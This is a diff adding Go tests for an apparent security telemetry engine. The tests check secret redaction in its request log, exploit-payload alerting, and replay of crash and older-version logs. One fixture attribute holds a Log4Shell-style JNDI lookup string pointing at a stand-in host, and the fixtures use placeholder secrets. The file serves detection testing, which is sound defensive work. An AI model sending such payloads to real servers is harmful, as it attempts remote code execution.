@@ -1,0 +1,231 @@
+package engine
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/klauspost/compress/s2"
+	"github.com/prometheus/client_golang/prometheus"
+	"github.com/prometheus/client_golang/prometheus/testutil"
+	"go.opentelemetry.io/collector/pdata/ptrace"
+
+	"github.com/evidentsec/evident/internal/detect"
+	"github.com/evidentsec/evident/internal/store"
+	"github.com/evidentsec/evident/internal/telemetry"
+)
+
+// consumeReceived hands req to the engine as a receiver does: the spans
+// decoded from it, with the request as received in the context.
+func consumeReceived(t testing.TB, e *Engine, req []byte) {
+	t.Helper()
+	var spans []telemetry.Span
+	texts, err := telemetry.DecodeReceivedTraceRequest(req, "test", func(s []telemetry.Span) error {
+		spans = append(spans, s...)
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := telemetry.WithReceived(context.Background(), req, texts, spans)
+	if err := e.TracesConsumer().Consume(ctx, spans); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// requestOf is spans as an OTLP trace request.
+func requestOf(t testing.TB, spans []telemetry.Span) []byte {
+	t.Helper()
+	b, err := telemetry.AppendTraceRequest(nil, spans)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// uncompressed is the payload of a logged batch, uncompressed.
+func uncompressed(t testing.TB, b memBatch) []byte {
+	t.Helper()
+	if b.kind != store.BatchTraceRequestS2 {
+		return b.payload
+	}
+	p, err := s2.Decode(nil, b.payload)
+	if err != nil {
+		t.Fatalf("logged batch %d: %v", b.seq, err)
+	}
+	return p
+}
+
+// instrumented is a request as an SDK sends it, with resource, scope and
+// span attributes evident does not decode, an event and a link; note is
+// put in an attribute evident does not decode and in the event's message,
+// and secret, when set, in an attribute named like a credential.
+func instrumented(t testing.TB, note, secret string) []byte {
+	t.Helper()
+	td := ptrace.NewTraces()
+	rs := td.ResourceSpans().AppendEmpty()
+	rs.Resource().Attributes().PutStr("service.name", "gateway")
+	rs.Resource().Attributes().PutStr("telemetry.sdk.language", "go")
+	ss := rs.ScopeSpans().AppendEmpty()
+	ss.Scope().SetName("go.opentelemetry.io/contrib/instrumentation/net/http/otelhttp")
+	sp := ss.Spans().AppendEmpty()
+	sp.SetTraceID([16]byte{15: 1})
+	sp.SetSpanID([8]byte{7: 1})
+	sp.SetName("GET /orders/{id}")
+	sp.SetKind(ptrace.SpanKindServer)
+	a := sp.Attributes()
+	a.PutStr("http.request.method", "GET")
+	a.PutStr("http.route", "/orders/{id}")
+	a.PutStr("url.path", "/orders/7")
+	a.PutStr("url.query", "q=${jndi:ldap://x.example/a}")
+	a.PutStr("network.protocol.version", "1.1")
+	a.PutStr("app.note", note)
+	if secret != "" {
+		a.PutStr("app.session_token", secret)
+		a.PutStr("url.query", "access_token="+secret+"&q=${jndi:ldap://x.example/a}")
+	}
+	ev := sp.Events().AppendEmpty()
+	ev.SetName("exception")
+	ev.Attributes().PutStr("exception.message", "lookup failed: "+note)
+	ln := sp.Links().AppendEmpty()
+	ln.SetTraceID([16]byte{15: 2})
+	ln.SetSpanID([8]byte{7: 2})
+	b, err := (&ptrace.ProtoMarshaler{}).MarshalTraces(td)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// TestLogReceived: a request with nothing to mask is logged byte for byte
+// as received; one with secrets, in attributes evident decodes or not and
+// in events, is logged without them, and applied as the log replays it.
+// The exploit rules see the request as received either way.
+func TestLogReceived(t *testing.T) {
+	for _, tc := range []struct {
+		name, note, secret string
+		redacted           bool
+	}{
+		{name: "nothing to mask", note: "cache miss"},
+		{name: "secrets", note: "mail alice@example.com card 4111 1111 1111 1111", secret: "hunter2", redacted: true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			st := &memStore{}
+			rec := &recorder{}
+			reg := prometheus.NewRegistry()
+			e := newEngine(t, testConfig(), st, rec, reg)
+			start(t, e)
+			req := instrumented(t, tc.note, tc.secret)
+			consumeReceived(t, e, req)
+			eventually(t, "the exploit alert", func() bool { return len(rec.of(detect.KindExploitPayload)) > 0 })
+			st.mu.Lock()
+			logged := st.batches[0]
+			st.mu.Unlock()
+			if logged.kind != store.BatchTraceRequestS2 {
+				t.Errorf("logged as %q, want %q", logged.kind, store.BatchTraceRequestS2)
+			}
+			logged.payload = uncompressed(t, logged)
+			if got := bytes.Equal(logged.payload, req); got == tc.redacted {
+				t.Errorf("logged the request as received: %v, want %v", got, !tc.redacted)
+			}
+			for _, secret := range []string{"hunter2", "alice@example.com", "4111 1111"} {
+				if tc.redacted && bytes.Contains(logged.payload, []byte(secret)) {
+					t.Errorf("the log holds %q", secret)
+				}
+			}
+			if n := testutil.ToFloat64(e.m.redacted.WithLabelValues("spans")); (n == 1) != tc.redacted {
+				t.Errorf("evident_engine_redacted_batches_total{signal=spans} = %v", n)
+			}
+			// What a crash leaves: the log, no checkpoint.
+			st.mu.Lock()
+			crashed := &memStore{batches: slices.Clone(st.batches), seq: st.seq}
+			st.mu.Unlock()
+			if err := e.Shutdown(context.Background()); err != nil {
+				t.Fatal(err)
+			}
+			replayed := newEngine(t, testConfig(), crashed, nil, nil)
+			start(t, replayed)
+			if diff := cmp.Diff(e.model.Snapshot(), replayed.model.Snapshot()); diff != "" {
+				t.Errorf("model replayed from the log (-applied live +replayed):\n%s", diff)
+			}
+		})
+	}
+}
+
+// logV1 is testdata/log-v1.json: the store of an engine of the version
+// before the log kept requests as received, written by it: a checkpoint
+// after shopSpans and a profile of orders, then a batch of spans it
+// encoded as an OTLP trace request and one of spans in encoding/gob, as
+// the versions before wrote them.
+type logV1 struct {
+	Checkpoint struct {
+		Seq   int64  `json:"seq"`
+		State []byte `json:"state"`
+	} `json:"checkpoint"`
+	Batches []struct {
+		Seq     int64           `json:"seq"`
+		Kind    store.BatchKind `json:"kind"`
+		Payload []byte          `json:"payload"`
+	} `json:"batches"`
+}
+
+// TestReplayLogV1: the log and checkpoint the previous version wrote
+// restore into the model this version builds from the same telemetry
+// received as requests.
+func TestReplayLogV1(t *testing.T) {
+	b, err := os.ReadFile(filepath.Join("testdata", "log-v1.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var v1 logV1
+	if err := json.Unmarshal(b, &v1); err != nil {
+		t.Fatal(err)
+	}
+	old := &memStore{checkSeq: v1.Checkpoint.Seq, checkState: v1.Checkpoint.State, seq: v1.Checkpoint.Seq}
+	var kinds []store.BatchKind
+	for _, b := range v1.Batches {
+		old.batches = append(old.batches, memBatch{b.Seq, b.Kind, b.Payload})
+		old.seq = b.Seq
+		kinds = append(kinds, b.Kind)
+	}
+	if diff := cmp.Diff([]store.BatchKind{store.BatchTraceRequest, store.BatchSpans}, kinds); diff != "" {
+		t.Fatalf("the fixture's batches (-want +got):\n%s", diff)
+	}
+	restored := newEngine(t, testConfig(), old, nil, nil)
+	start(t, restored)
+
+	more := shopSpans()
+	for i := range more {
+		more[i].SpanID[0], more[i].ParentSpanID[0] = 9, 9
+		more[i].Attrs.HTTPRoute += "/v2"
+	}
+	more[0].ParentSpanID = [8]byte{}
+	older := shopSpans()
+	for i := range older {
+		older[i].SpanID[0], older[i].ParentSpanID[0] = 8, 8
+		older[i].Service += "-old"
+	}
+	older[0].ParentSpanID = [8]byte{}
+	live := newEngine(t, testConfig(), &memStore{}, nil, nil)
+	start(t, live)
+	consumeReceived(t, live, requestOf(t, shopSpans()))
+	if err := live.ProfilesConsumer().Consume(context.Background(), []*telemetry.ProfileBatch{textProfile("orders", true)}); err != nil {
+		t.Fatal(err)
+	}
+	consumeReceived(t, live, requestOf(t, more))
+	consumeReceived(t, live, requestOf(t, older))
+	if err := live.Shutdown(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	if restored.model.Snapshot().Service("orders-old") == nil {
+		t.Fatal("nothing replayed")
+	}
+	if diff := cmp.Diff(live.model.Snapshot(), restored.model.Snapshot()); diff != "" {
+		t.Errorf("model restored from the previous version's log (-applied live +restored):\n%s", diff)
+	}
+}
